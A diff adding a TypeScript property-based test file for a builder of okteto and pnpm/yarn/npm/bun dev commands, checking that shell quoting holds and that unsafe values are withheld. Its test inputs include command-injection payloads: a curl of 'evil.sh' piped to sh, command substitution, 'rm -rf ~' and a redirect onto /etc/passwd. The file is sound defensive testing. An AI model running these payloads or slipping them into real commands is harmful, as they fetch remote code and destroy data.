@@ -1,0 +1,209 @@
+import { spawnSync } from 'node:child_process';
+import fc from 'fast-check';
+import { parse } from 'shell-quote';
+import { buildDevCommands, shellCommand, shellQuote } from './commands';
+import { isDnsLabel } from './conventions';
+import { isValidDevName } from './oktetoManifest';
+import { isValidPackageName } from './packageName';
+import { PackageManagerName, workspaceDevArgv } from './packageManager';
+
+const EVIL = 'x;curl${IFS}-s${IFS}evil.sh|sh;#';
+const FRIENDS = [
+  EVIL,
+  '$(curl -s evil.sh|sh)',
+  '`id`',
+  'a && rm -rf ~',
+  "x' ; id ; '",
+  'x\nid',
+  '--kubeconfig=/tmp/x',
+  '@scope/pkg;id',
+  'pkg > /etc/passwd',
+  '*',
+  '!pkg',
+];
+
+/** The words `sh` reads from a command line (POSIX sh, not our own parsing). */
+function shWords(line: string): string[] {
+  const result = spawnSync('sh', ['-c', `set -- ${line}; printf '%s\\0' "$@"`], {
+    encoding: 'utf8',
+  });
+  if (result.status !== 0) throw new Error(result.stderr);
+  return result.stdout.split('\0').slice(0, -1);
+}
+
+/** The words shell-quote's parser reads; an operator or glob comes back as an object. */
+function parsed(line: string): unknown[] {
+  return parse(line);
+}
+
+const values = (devService: string, namespace: string, pkg: string) => ({
+  devService: { value: devService, source: 'the Okteto manifest' },
+  namespace: { value: namespace, source: 'okteto-dev/namespace' },
+  package: { value: pkg, source: 'apps/x/package.json' },
+});
+
+describe('buildDevCommands', () => {
+  it('keeps web-core’s commands as they were', () => {
+    const { commands, withheld } = buildDevCommands(
+      values(
+        'web-corporate-dev',
+        'web-corporate-dev',
+        '@synestra/corporate-website',
+      ),
+    );
+    expect(withheld).toEqual([]);
+    expect(commands).toEqual({
+      oktetoUp: 'okteto up web-corporate-dev --namespace web-corporate-dev',
+      oktetoDown: 'okteto down web-corporate-dev --namespace web-corporate-dev',
+      dev: 'pnpm --filter @synestra/corporate-website dev',
+      devSource: 'package',
+    });
+  });
+
+  it.each<[PackageManagerName, string]>([
+    ['pnpm', 'pnpm --filter @acme/shop dev'],
+    ['yarn', 'yarn workspace @acme/shop dev'],
+    ['npm', 'npm run dev --workspace @acme/shop'],
+    ['bun', 'bun --filter @acme/shop dev'],
+  ])('follows the repository’s package manager: %s', (manager, dev) => {
+    const { commands } = buildDevCommands({
+      ...values('shop', 'web-shop-dev', '@acme/shop'),
+      packageManager: manager,
+    });
+    expect(commands?.dev).toBe(dev);
+  });
+
+  it('offers nothing to paste for a dev entry with its own command', () => {
+    const { commands } = buildDevCommands({
+      ...values('shop', 'web-shop-dev', '@acme/shop'),
+      entryCommand: true,
+    });
+    expect(commands).toEqual({
+      oktetoUp: 'okteto up shop --namespace web-shop-dev',
+      oktetoDown: 'okteto down shop --namespace web-shop-dev',
+      devSource: 'dev-entry',
+    });
+  });
+
+  it.each(FRIENDS)('withholds every okteto command for dev name %j, naming it', bad => {
+    const { commands, withheld } = buildDevCommands(
+      values(bad, 'web-shop-dev', '@acme/shop'),
+    );
+    expect(commands).toBeUndefined();
+    expect(withheld).toEqual([
+      expect.objectContaining({
+        code: 'commandDevNameInvalid',
+        params: {
+          value: bad.replace(/\n/g, '?'),
+          source: 'the Okteto manifest',
+        },
+      }),
+    ]);
+  });
+
+  it.each(FRIENDS)('withholds every okteto command for namespace %j', bad => {
+    const { commands, withheld } = buildDevCommands(
+      values('shop', bad, '@acme/shop'),
+    );
+    expect(commands).toBeUndefined();
+    expect(withheld.map(w => [w.code, w.params.source])).toEqual([
+      ['commandNamespaceInvalid', 'okteto-dev/namespace'],
+    ]);
+  });
+
+  it.each(FRIENDS)('withholds the dev command for package %j, keeping okteto up and down', bad => {
+    const { commands, withheld } = buildDevCommands(
+      values('shop', 'web-shop-dev', bad),
+    );
+    expect(commands?.oktetoUp).toBe('okteto up shop --namespace web-shop-dev');
+    expect(commands?.dev).toBeUndefined();
+    expect(withheld.map(w => [w.code, w.params.source])).toEqual([
+      ['commandPackageInvalid', 'apps/x/package.json'],
+    ]);
+  });
+
+  it('for arbitrary values, offers only commands that read back as exactly the intended words', () => {
+    const word = fc.oneof(
+      fc.string(),
+      fc.constantFrom(...FRIENDS),
+      fc.stringMatching(/^[a-z0-9@/._~-]{1,20}$/),
+    );
+    fc.assert(
+      fc.property(
+        word,
+        word,
+        word,
+        fc.constantFrom<PackageManagerName>('pnpm', 'yarn', 'npm', 'bun'),
+        (devService, namespace, pkg, manager) => {
+          const { commands } = buildDevCommands({
+            ...values(devService, namespace, pkg),
+            packageManager: manager,
+          });
+          if (!commands) {
+            expect(isValidDevName(devService) && isDnsLabel(namespace)).toBe(
+              false,
+            );
+            return;
+          }
+          const expected: Record<string, string[]> = {
+            oktetoUp: ['okteto', 'up', devService, '--namespace', namespace],
+            oktetoDown: ['okteto', 'down', devService, '--namespace', namespace],
+          };
+          if (commands.dev !== undefined) {
+            expect(isValidPackageName(pkg)).toBe(true);
+            expected.dev = workspaceDevArgv(manager, pkg);
+          }
+          for (const [key, argv] of Object.entries(expected)) {
+            const line = commands[key as keyof typeof commands] as string;
+            // every word a plain string: no operator, glob or comment object
+            expect(parsed(line)).toEqual(argv);
+          }
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+});
+
+describe('shellQuote', () => {
+  it('leaves plain words readable and quotes the rest', () => {
+    expect(shellQuote('@synestra/corporate-website')).toBe(
+      '@synestra/corporate-website',
+    );
+    expect(shellQuote(EVIL)).toBe(`'${EVIL}'`);
+    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
+    expect(shellQuote('')).toBe(`''`);
+    expect(shellQuote('=cmd')).toBe(`'=cmd'`);
+  });
+
+  it('reads back as the same words in shell-quote’s parser, for any strings', () => {
+    fc.assert(
+      fc.property(fc.array(fc.string({ minLength: 1 }), { minLength: 1 }), argv => {
+        expect(parsed(shellCommand(argv))).toEqual(argv);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('reads back as the same words in a real sh, for any strings and the known attacks', () => {
+    for (const value of FRIENDS) {
+      expect(shWords(shellCommand(['okteto', 'up', value]))).toEqual([
+        'okteto',
+        'up',
+        value,
+      ]);
+    }
+    fc.assert(
+      fc.property(
+        fc.array(
+          fc.string({ unit: 'binary', minLength: 1 }).filter(s => !s.includes('\0')),
+          { minLength: 1, maxLength: 4 },
+        ),
+        argv => {
+          expect(shWords(shellCommand(argv))).toEqual(argv);
+        },
+      ),
+      { numRuns: 60 },
+    );
+  });
+});
